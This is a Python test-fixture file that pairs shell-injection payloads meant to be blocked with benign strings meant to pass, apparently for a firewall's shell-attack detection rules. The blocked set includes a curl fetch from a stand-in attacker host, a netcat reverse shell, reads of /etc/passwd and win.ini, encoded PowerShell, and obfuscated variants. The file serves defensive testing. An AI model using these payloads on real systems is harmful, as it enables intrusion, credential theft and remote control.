"""Should-block / should-pass payloads of the ``rules/managed/attacks_shell.py`` classes (see ``cases.py``)."""

from __future__ import annotations

from tests.rules.case import Case

CASES: tuple[Case, ...] = (
    Case(
        "UNIXShellCommands",
        ("; cat /etc/passwd", "| id", "&& whoami", "$(curl http://evil.example/x.sh)", "; nc -e /bin/sh 10.0.0.1 4444",
         "; salt-call cmd.run id", "x; xzcat /var/log/auth.log.xz", "x=cd /;cd etc;head hosts", "tr a b <<< 'abc'"),
        ("bash guitar pedal", "Tom & Jerry", "cat food; dog food", "drop me a line", "salt & pepper",
         "python 3.10 release notes", "cd music; then play"),
    ),
    Case(
        "UNIXShellCommandsUnquoted",
        ("; w'h'o'am'i", "| c\\at /et\\c/pas\\swd"),
        ("who am I?", "the cat sat on the mat"),
    ),
    Case(
        "UNIXShellExpansion",
        ("cat${IFS}/etc/passwd", "/bi[n]/ba[s]h", "{cat,/etc/passwd}", "c$@at /e${x}tc/hosts"),
        ("filter[name]=shoes", "price ${total}", "{a: 1, b: 2}"),
    ),
    Case(
        "WindowsShellCommands",
        ("| type C:\\Windows\\win.ini", "& powershell -enc SQBFAFgA", "cmd.exe /c dir", "FOR /F %a IN (x) DO y",
         "& FOR /L /L %~ IN (1,1,9) DO cmd", "if/i x==y calc"),
        ("Windows 11 type cover", "the power shell of a turtle", "for a in list do x", "if a == b then c"),
    ),
)
